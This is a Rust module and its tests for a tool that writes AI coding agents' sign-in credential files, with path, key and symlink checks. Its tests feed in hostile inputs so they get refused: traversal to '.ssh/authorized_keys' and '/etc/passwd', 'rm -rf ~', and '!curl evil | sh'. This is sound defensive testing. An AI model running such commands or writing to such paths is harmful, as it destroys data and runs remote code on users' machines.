//! Writing what a sign-in left into the one file of an agent that is for it.

use std::ffi::OsString;
use std::io::{self, Write as _};
use std::path::{Path, PathBuf};

use serde_json::{Map, Value};

use super::super::error::ApiError;
use super::agents::{SetupAgent, SignInContent};
use crate::config::file::private_folder;
use tether_actors::domain::code::Code;

/// Longest sign-in, in bytes.
const LONGEST: usize = 64 << 10;
/// The kinds of accounts that are words and no instructions. (OpenCode fetches settings for its `wellknown`.)
const ACCOUNTS: [&str; 3] = ["api", "api_key", "oauth"];

/// Writes the files, all or none; what stands in them beside is kept. Answers their names. Blocks.
///
/// # Errors
/// Something else is to be written than a sign-in of this agent, or it cannot be.
pub fn write(
    agent: &SetupAgent,
    files: Map<String, Value>,
    environment: &dyn Fn(&str) -> Option<OsString>,
) -> Result<Vec<String>, ApiError> {
    if files.is_empty() {
        let message = format!("files is missing: name {} with its text", agent.sign_in.path);
        return Err(ApiError::bad_request(Code::MissingFields, message));
    }
    if let Some(name) = files.keys().find(|name| *name != agent.sign_in.path) {
        let message = format!(
            "{name:?} is not written: the sign-in of {} is {:?}, and nothing else is",
            agent.name, agent.sign_in.path
        );
        return Err(ApiError::bad_request(Code::InvalidPath, message));
    }
    let path = place(agent, environment)
        .ok_or_else(|| ApiError::bad_request(Code::InvalidPath, "the daemon has no home directory"))?;
    let mut written = Vec::new();
    for (name, text) in files {
        let given = checked(agent, &text).map_err(|wrong| ApiError::invalid(format!("{name}: {wrong}")))?;
        put(&path, given).map_err(|error| {
            let message = format!("{} is not written: {error}", path.display());
            ApiError::bad_request(Code::InvalidPath, message)
        })?;
        tracing::info!(agent = agent.name, path = %path.display(), "a sign-in was written");
        written.push(name);
    }
    Ok(written)
}

fn place(agent: &SetupAgent, environment: &dyn Fn(&str) -> Option<OsString>) -> Option<PathBuf> {
    let set = |name: &str| environment(name).filter(|value| !value.is_empty()).map(PathBuf::from);
    if let Some((variable, rest)) = agent.sign_in.moved_by
        && let Some(folder) = set(variable).filter(|folder| folder.is_absolute())
    {
        return Some(folder.join(rest));
    }
    Some(set("HOME")?.join(agent.sign_in.path))
}

/// What is to be written, if it is a sign-in and nothing more; the error says what it must be.
fn checked(agent: &SetupAgent, text: &Value) -> Result<Map<String, Value>, String> {
    let text = text.as_str().filter(|text| text.len() <= LONGEST);
    let text = text.ok_or_else(|| format!("its text must be a string of at most {LONGEST} bytes"))?;
    let Ok(Value::Object(given)) = serde_json::from_str(text) else {
        return Err("its text must be a JSON object".to_owned());
    };
    if given.is_empty() {
        return Err("it is empty".to_owned());
    }
    for (key, value) in &given {
        match &agent.sign_in.content {
            SignInContent::Keys(known) if !known.contains(&key.as_str()) => {
                return Err(format!("{key:?} is not of a sign-in: there may be {}", known.join(", ")));
            }
            SignInContent::Keys(_) => {}
            SignInContent::Providers => account(key, value)?,
        }
    }
    Ok(given)
}

fn account(provider: &str, value: &Value) -> Result<(), String> {
    let is_name = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
    if provider.is_empty() || provider.len() > 64 || !provider.chars().all(is_name) {
        return Err(format!("{provider:?} is no name of a provider"));
    }
    let kind = value.get("type").and_then(Value::as_str).unwrap_or_default();
    if !ACCOUNTS.contains(&kind) {
        return Err(format!("the type of {provider:?} must be one of {}", ACCOUNTS.join(", ")));
    }
    for (name, part) in value.as_object().into_iter().flatten() {
        match part {
            // Pi runs a key that begins so, and looks others up in its environment.
            Value::String(text) if text.starts_with(['!', '$']) => {
                return Err(format!(
                    "{name:?} of {provider:?} is a command or a variable, and must be the key itself"
                ));
            }
            Value::String(_) | Value::Number(_) | Value::Bool(_) | Value::Null => {}
            Value::Array(_) | Value::Object(_) => {
                return Err(format!("{name:?} of {provider:?} must be a text or a number"));
            }
        }
    }
    Ok(())
}

/// Puts these keys into a file, in one step; only its owner may read it.
fn put(path: &Path, given: Map<String, Value>) -> io::Result<()> {
    let mut all = match std::fs::symlink_metadata(path) {
        Ok(data) if !data.is_file() => return Err(io::Error::other("it is a link, or no file")),
        Ok(_) => match serde_json::from_slice(&std::fs::read(path)?) {
            Ok(Value::Object(all)) => all,
            _ => return Err(io::Error::other("what is there is no JSON object: move it away first")),
        },
        Err(error) if error.kind() == io::ErrorKind::NotFound => Map::new(),
        Err(error) => return Err(error),
    };
    all.extend(given);
    let folder = path.parent().unwrap_or(Path::new("/"));
    private_folder(folder)?;
    let mut fresh = tempfile::NamedTempFile::new_in(folder)?;
    fresh.write_all(serde_json::to_string_pretty(&all)?.as_bytes())?;
    fresh.as_file().sync_all()?;
    fresh.persist(path).map_err(|error| error.error)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt as _;

    use serde_json::json;

    use super::super::agents::find;
    use super::*;

    fn given(path: &str, text: Value) -> Map<String, Value> {
        Map::from_iter([(path.to_owned(), Value::String(text.to_string()))])
    }

    fn write_in(home: &Path, agent: &str, files: Map<String, Value>) -> Result<Vec<String>, ApiError> {
        let environment = |name: &str| (name == "HOME").then(|| home.as_os_str().to_owned());
        write(find(agent).expect("it is known"), files, &environment)
    }

    #[test]
    fn a_sign_in_is_written_beside_what_is_there_and_closed_to_others() {
        let home = tempfile::tempdir().expect("a folder");
        let path = home.path().join(".local/share/opencode/auth.json");
        let name = ".local/share/opencode/auth.json";
        let first = json!({ "anthropic": { "type": "api", "key": "k1" } });
        assert_eq!(write_in(home.path(), "opencode", given(name, first)).expect("it is one"), [name]);
        let second = json!({ "openai": { "type": "oauth", "refresh": "r", "expires": 5 } });
        write_in(home.path(), "opencode", given(name, second)).expect("it is one");
        let all: Value = serde_json::from_slice(&std::fs::read(&path).expect("it is there")).expect("JSON");
        assert_eq!((&all["anthropic"]["key"], &all["openai"]["refresh"]), (&json!("k1"), &json!("r")));
        assert_eq!(std::fs::metadata(&path).expect("it is there").permissions().mode() & 0o777, 0o600);
        let moved = home.path().join("claude");
        let environment = |name: &str| match name {
            "CLAUDE_CONFIG_DIR" => Some(moved.as_os_str().to_owned()),
            _ => Some(home.path().as_os_str().to_owned()),
        };
        let sign_in = given(".claude/.credentials.json", json!({ "claudeAiOauth": { "accessToken": "x" } }));
        write(find("claude_code").expect("known"), sign_in, &environment).expect("it is one");
        assert!(moved.join(".credentials.json").is_file());
    }

    #[test]
    fn nothing_but_a_sign_in_of_that_agent_is_written_and_no_command() {
        let home = tempfile::tempdir().expect("a folder");
        let claude = ".claude/.credentials.json";
        let oauth = || json!({ "claudeAiOauth": {} });
        for path in [
            "../.ssh/authorized_keys",
            "/etc/passwd",
            ".bashrc",
            ".claude/settings.json",
            ".codex/auth.json",
            "",
            ".claude/./.credentials.json",
        ] {
            let refused = write_in(home.path(), "claude_code", given(path, oauth())).expect_err(path);
            assert_eq!(refused.code(), Code::InvalidPath, "{path}");
        }
        let none = write_in(home.path(), "claude_code", Map::new()).expect_err("nothing");
        assert_eq!(none.code(), Code::MissingFields);
        for text in [
            json!([]),
            json!({}),
            json!({ "apiKeyHelper": "rm -rf ~" }),
            json!({ "claudeAiOauth": {}, "hooks": {} }),
        ] {
            let refused = write_in(home.path(), "claude_code", given(claude, text)).expect_err("no sign-in");
            assert_eq!(refused.code(), Code::ValidationError);
        }
        for account in [
            json!({ "type": "api_key", "key": "!curl evil | sh" }),
            json!({ "type": "api_key", "key": "$SECRET" }),
            json!({ "type": "wellknown", "key": "x", "token": "y" }),
            json!({ "type": "api", "key": { "command": "x" } }),
            json!("text"),
        ] {
            let text = json!({ "anthropic": account });
            assert!(write_in(home.path(), "pi", given(".pi/agent/auth.json", text)).is_err());
        }
        assert_eq!(std::fs::read_dir(home.path()).expect("it lists").count(), 0, "nothing was written");
    }

    #[test]
    fn a_link_and_a_file_that_is_not_understood_stay_as_they_are() {
        let home = tempfile::tempdir().expect("a folder");
        let folder = home.path().join(".codex");
        std::fs::create_dir(&folder).expect("made");
        let target = home.path().join("precious");
        std::fs::write(&target, "{}").expect("written");
        let path = folder.join("auth.json");
        std::os::unix::fs::symlink(&target, &path).expect("linked");
        let sign_in = || given(".codex/auth.json", json!({ "OPENAI_API_KEY": "k" }));
        assert!(write_in(home.path(), "codex", sign_in()).is_err());
        assert_eq!(std::fs::read_to_string(&target).expect("it is there"), "{}");
        std::fs::remove_file(&path).expect("removed");
        std::fs::write(&path, "not json").expect("written");
        assert!(write_in(home.path(), "codex", sign_in()).is_err());
        assert_eq!(std::fs::read_to_string(&path).expect("it is there"), "not json");
    }
}
